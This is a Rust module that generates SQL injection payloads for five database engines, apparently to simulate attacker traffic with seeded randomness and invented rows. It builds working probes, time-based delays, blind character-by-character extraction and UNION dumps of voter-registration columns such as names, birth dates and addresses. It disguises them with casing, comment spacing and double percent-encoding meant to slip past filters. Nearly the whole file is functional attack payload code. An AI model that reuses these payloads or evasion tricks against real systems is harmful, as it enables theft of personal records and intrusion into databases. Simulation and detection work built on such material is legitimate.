//! Composes SQL injection as a parameter's value: per database, with the disguises that filters meet.
//!
//! Nothing here is copied from a collection or a tool; the grammar is small and public (PortSwigger's SQL injection
//! cheat sheet and the databases' manuals name the functions).

use percent_encoding::{AsciiSet, CONTROLS, utf8_percent_encode};

use super::chance::{Chance, trait_of};

/// Left to stand by the tools people use; everything else is percent-encoded.
const ENCODED: &AsciiSet =
    &CONTROLS.add(b' ').add(b'"').add(b'#').add(b'&').add(b'+').add(b'%').add(b'<').add(b'>').add(b'\'');

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Database {
    MySql,
    SqlServer,
    Postgres,
    Sqlite,
    Oracle,
}

#[derive(Debug, Clone, Copy)]
enum Casing {
    Upper,
    Lower,
    Mixed,
}

/// One attacker's way of writing: the same throughout an attack, as a tool's settings are.
#[derive(Debug, Clone)]
pub(super) struct Injection {
    database: Database,
    casing: Casing,
    space: &'static str,
    closing: &'static str,
    tail: &'static str,
    twice: bool,
    table: &'static str,
}

/// Columns read from a voter's row.
const COLUMNS: &[&str] = &["last_nm", "first_nm", "birth_dt", "res_addr", "reg_no"];

impl Injection {
    pub(super) fn choose(chance: &mut Chance) -> Self {
        Self {
            database: chance.pick(&[
                Database::MySql,
                Database::SqlServer,
                Database::Postgres,
                Database::Sqlite,
                Database::Oracle,
            ]),
            casing: chance.pick(&[Casing::Upper, Casing::Lower, Casing::Mixed]),
            space: chance.pick(&["+", "%20", "/**/", "%09", "%0a", "%20/*%20*/"]),
            closing: chance.pick(&["'", "')", "'))", "", ")"]),
            tail: chance.pick(&[" -- -", "--", " --", ";--"]),
            twice: chance.yes(0.12),
            table: chance.pick(&["voters", "registrant", "vr_person", "dbo.voter_reg"]),
        }
    }

    /// First tries: does a quote break it, does a condition change the answer, how many columns are there?
    pub(super) fn probe(&self, chance: &mut Chance) -> String {
        let (a, b) = (chance.within(10, 9_999), chance.within(10, 9_999));
        let closing = self.closing;
        let sql = match chance.below(6) {
            0 => format!("{closing}\""),
            1 => format!("{closing} AND {a}={b}{}", self.tail),
            2 => format!("{closing} OR {a}={a}{}", self.tail),
            3 => format!("{closing} ORDER BY {}{}", chance.within(1, 14), self.tail),
            4 => format!("{closing} AND {}{}", self.delay(chance.within(2, 7)), self.tail),
            _ => {
                format!("{closing} UNION SELECT {}{}", vec!["NULL"; chance.within(1, 9) as usize].join(","), self.tail)
            }
        };
        self.disguise(&sql, chance)
    }

    /// Is the character at `position` of a voter's column greater than `threshold`? About 190 such questions read a row.
    pub(super) fn bit(&self, chance: &mut Chance, row: u64, column: usize, position: u64, threshold: u64) -> String {
        let value = self.nth_value(COLUMNS[column % COLUMNS.len()], row);
        let sql = format!("{} AND {}>{threshold}{}", self.closing, self.character(&value, position), self.tail);
        self.disguise(&sql, chance)
    }

    /// One voter's row, in a page's own table.
    pub(super) fn row(&self, chance: &mut Chance, row: u64) -> String {
        let sql = format!(
            "{} UNION ALL SELECT NULL,{},NULL {}{}",
            self.closing,
            self.joined(COLUMNS),
            self.nth_row(row),
            self.tail
        );
        self.disguise(&sql, chance)
    }

    /// Many rows in one answer, from a row on.
    pub(super) fn dump(&self, chance: &mut Chance, from: u64, rows: u64) -> String {
        let all = match self.database {
            Database::MySql | Database::Sqlite => format!("GROUP_CONCAT({})", self.joined(COLUMNS)),
            Database::SqlServer | Database::Postgres => format!("STRING_AGG({},CHR(10))", self.joined(COLUMNS)),
            Database::Oracle => format!("XMLAGG(XMLELEMENT(e,{}))", self.joined(COLUMNS)),
        };
        let last = from + rows;
        let sql = format!(
            "{} UNION ALL SELECT NULL,{all},NULL FROM {} WHERE reg_no BETWEEN {from} AND {last}{}",
            self.closing, self.table, self.tail
        );
        self.disguise(&sql, chance)
    }

    fn character(&self, value: &str, position: u64) -> String {
        match self.database {
            Database::MySql => format!("ORD(MID({value},{position},1))"),
            Database::SqlServer => format!("UNICODE(SUBSTRING({value},{position},1))"),
            Database::Sqlite => format!("UNICODE(SUBSTR({value},{position},1))"),
            Database::Postgres | Database::Oracle => format!("ASCII(SUBSTR({value},{position},1))"),
        }
    }

    fn nth_value(&self, column: &str, row: u64) -> String {
        match self.database {
            Database::Oracle => format!("(SELECT {column} {})", self.nth_row(row)),
            Database::SqlServer => format!("(SELECT CAST({column} AS NVARCHAR(90)) {})", self.nth_row(row)),
            Database::MySql => format!("(SELECT IFNULL({column},0x20) {})", self.nth_row(row)),
            _ => format!("(SELECT COALESCE({column},'') {})", self.nth_row(row)),
        }
    }

    fn nth_row(&self, row: u64) -> String {
        let table = self.table;
        match self.database {
            Database::MySql => format!("FROM {table} ORDER BY reg_no LIMIT {row},1"),
            Database::Postgres | Database::Sqlite => format!("FROM {table} ORDER BY reg_no LIMIT 1 OFFSET {row}"),
            Database::SqlServer => format!("FROM {table} ORDER BY reg_no OFFSET {row} ROWS FETCH NEXT 1 ROWS ONLY"),
            Database::Oracle => format!("FROM (SELECT v.*,ROWNUM n FROM {table} v) WHERE n={}", row + 1),
        }
    }

    fn joined(&self, columns: &[&str]) -> String {
        match self.database {
            Database::MySql => format!("CONCAT_WS(0x7c,{})", columns.join(",")),
            Database::SqlServer => format!("CONCAT({})", columns.join(",CHAR(124),")),
            _ => columns.join("||CHR(124)||"),
        }
    }

    fn delay(&self, seconds: u64) -> String {
        match self.database {
            Database::MySql => format!("SLEEP({seconds})"),
            Database::SqlServer => format!("1=1 WAITFOR DELAY '0:0:{seconds}'"),
            Database::Postgres => format!("1=(SELECT 1 FROM PG_SLEEP({seconds}))"),
            Database::Sqlite => format!("1=LIKE('A',UPPER(HEX(RANDOMBLOB({seconds}00000000))))"),
            Database::Oracle => format!("1=DBMS_PIPE.RECEIVE_MESSAGE('x',{seconds})"),
        }
    }

    fn disguise(&self, sql: &str, chance: &mut Chance) -> String {
        let words: Vec<String> = sql.split(' ').map(|word| encode(&self.cased(word, chance))).collect();
        let value = words.join(self.space);
        if self.twice { value.replace('%', "%25") } else { value }
    }

    fn cased(&self, word: &str, chance: &mut Chance) -> String {
        match self.casing {
            Casing::Upper => word.to_owned(),
            Casing::Lower => word.to_lowercase(),
            Casing::Mixed => word
                .chars()
                .map(|letter| if chance.yes(0.5) { letter.to_ascii_lowercase() } else { letter.to_ascii_uppercase() })
                .collect(),
        }
    }
}

fn encode(word: &str) -> String {
    utf8_percent_encode(word, ENCODED).to_string()
}

/// Seven questions settle one of 128 characters; 27 characters are a voter's name, birth date and town.
pub(super) const CHARACTERS: u64 = 27;

/// An invented character of an invented row.
pub(super) fn letter(row: u64, character: u64) -> u64 {
    b'a' as u64 + trait_of("letter", row * 64 + character) % 26
}

/// The questions "greater than?" that find a character below 128, with their answers.
pub(super) fn halving(character: u64) -> impl Iterator<Item = (u64, bool)> {
    let (mut low, mut high) = (0, 127);
    std::iter::from_fn(move || {
        (low < high).then(|| {
            let middle = (low + high) / 2;
            let greater = character > middle;
            if greater {
                low = middle + 1
            } else {
                high = middle
            }
            (middle, greater)
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn payloads_are_one_word_of_a_request_line() {
        let mut chance = Chance::new(3, "payload");
        for _ in 0..300 {
            let injection = Injection::choose(&mut chance);
            for value in
                [injection.probe(&mut chance), injection.bit(&mut chance, 4, 1, 2, 77), injection.row(&mut chance, 9)]
            {
                assert!(value.is_ascii() && !value.contains([' ', '"', '\n', '&']), "{value}");
            }
        }
    }

    #[test]
    fn writings_differ_between_attackers() {
        let one = |seed| Injection::choose(&mut Chance::new(seed, "x")).row(&mut Chance::new(seed, "y"), 5);
        let all: std::collections::BTreeSet<String> = (0..40).map(one).collect();
        assert!(all.len() > 30, "{}", all.len());
    }

    #[test]
    fn halving_takes_seven_questions_and_finds_the_character() {
        for character in 0..128 {
            let asked: Vec<(u64, bool)> = halving(character).collect();
            assert_eq!(asked.len(), 7);
            assert!(asked.iter().all(|(threshold, greater)| (character > *threshold) == *greater));
        }
    }
}
